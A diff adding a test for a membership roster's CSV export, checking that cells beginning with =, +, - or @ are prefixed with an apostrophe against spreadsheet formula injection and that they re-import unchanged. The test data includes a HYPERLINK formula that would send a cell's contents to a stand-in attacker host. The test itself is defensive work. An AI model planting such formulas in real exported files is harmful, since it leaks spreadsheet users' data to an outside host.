@@ -382,4 +382,37 @@ describe('exportRoster', () => {
     });
     expect(scoped.trim().split('\r\n').slice(1)).toEqual(rows);
   }, 60_000);
+
+  it('guards cells a spreadsheet would run as formulas, and imports them back unchanged (D71)', async () => {
+    const name = '=HYPERLINK("https://evil.example/?q="&A1,"Click")';
+    const file = [
+      'member_number,first_name,last_name,birth_date,club,middle_name,cell_phone',
+      `7000009,"${name.replaceAll('"', '""')}",@Holt,1950-01-02,harmony412,-Ann,+1 614 555 0100`,
+    ].join('\r\n');
+    expect((await run(file)).added).toBe(1);
+    expect(await memberOf('7000009')).toMatchObject({
+      first_name: name,
+      last_name: '@Holt',
+      middle_name: '-Ann',
+      phones: [{ number: '16145550100' }],
+    });
+    const harmony = await db()
+      .selectFrom('clubs')
+      .select('id')
+      .where('subdomain', '=', 'harmony412')
+      .executeTakeFirstOrThrow();
+    const out = await exported(harmony.id);
+    const row = out.split('\r\n').find((line) => line.startsWith('7000009,'));
+    // Every cell that began with =, +, - or @ now begins with an apostrophe.
+    expect(row).toBe(
+      `7000009,"'${name.replaceAll('"', '""')}",'@Holt,1950-01-02,harmony412,'-Ann,,,,16145550100,,,,,,,,,,active,`,
+    );
+    const back = await run(out);
+    expect(back.errors).toEqual([]);
+    expect(back.added + back.updated).toBe(0);
+    expect(await memberOf('7000009')).toMatchObject({ first_name: name, last_name: '@Holt' });
+    // A spreadsheet's own guarded phone, as a member types it with +, reads as its digits.
+    const typed = file.replace('+1 614 555 0100', "'+1 614 555 0100");
+    expect((await run(typed)).updated).toBe(0);
+  }, 120_000);
 });
